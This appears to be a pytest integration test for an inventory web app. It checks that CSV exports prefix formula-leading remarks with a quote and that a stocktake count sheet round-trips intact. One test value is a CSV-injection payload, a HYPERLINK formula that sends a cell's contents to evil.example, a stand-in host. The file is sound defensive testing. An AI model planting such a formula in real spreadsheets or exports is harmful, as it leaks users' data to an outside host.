"""CSV exports neutralise formula-leading text, and a count sheet comes back intact (#16 §6)."""

from __future__ import annotations

import csv
import io

import pytest

from openjxc.bootstrap import System
from openjxc.domain.access.actor import Actor
from openjxc.queries import stocktakes
from openjxc.services import products
from tests.integration.web.conftest import Browser

pytestmark = pytest.mark.usefixtures("shop")

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_formula_in_remarks_is_exported_as_text(browser: Browser) -> None:
    for remarks in (LINK, "+1+1", "-2+3", "@SUM(A1)", "普通备注"):
        form = [
            ("type", "other_receipt"),
            ("date", "2026-11-20"),
            ("warehouse", "CW"),
            ("remarks", remarks),
            ("then", "approve"),
            ("line_product", "W1"),
            ("line_unit", "瓶"),
            ("line_qty", "1"),
            ("line_cost", "2"),
            ("line_batch", ""),
            ("line_expiry", ""),
        ]
        assert browser.post("/documents/new", form).status_code == 200
    header, *rows = _rows(browser.get("/documents/export?format=csv").content)
    exported = {row[header.index("备注")] for row in rows}
    assert exported == {"'" + LINK, "'+1+1", "'-2+3", "'@SUM(A1)", "普通备注"}


def test_a_count_sheet_with_formula_like_text_reads_back_as_written(
    browser: Browser, system: System
) -> None:
    products.create_product(
        products.ProductData(code="X1", name="=1+1", base_unit="个"), Actor.system(), system.uow()
    )
    receipt = [("type", "other_receipt"), ("date", "2026-11-20"), ("warehouse", "CW")]
    receipt += [("then", "approve"), ("line_product", "X1"), ("line_unit", "个")]
    receipt += [("line_qty", "30"), ("line_cost", "2"), ("line_batch", ""), ("line_expiry", "")]
    assert browser.post("/documents/new", receipt).status_code == 200
    created = browser.post("/stocktakes/new", {"warehouse": "CW", "date": "2026-11-21"})
    number = str(created.url).rsplit("/", 1)[1]
    header, *rows = _rows(browser.get(f"/stocktakes/{number}/sheet?format=csv").content)
    assert [row[:2] for row in rows] == [["X1", "'=1+1"]]
    rows[0][4] = "28"
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    content = out.getvalue().encode("utf-8-sig")
    done = browser.post(f"/stocktakes/{number}/import", {}, files={"file": ("c.csv", content)})
    assert done.status_code == 200, done.text
    with system.read_sessions() as session:
        doc = stocktakes.get_stocktake(session, Actor.system(), number)
    assert [(ln["product"], ln["counted_qty"]) for ln in doc["lines"]] == [("X1", 28)]
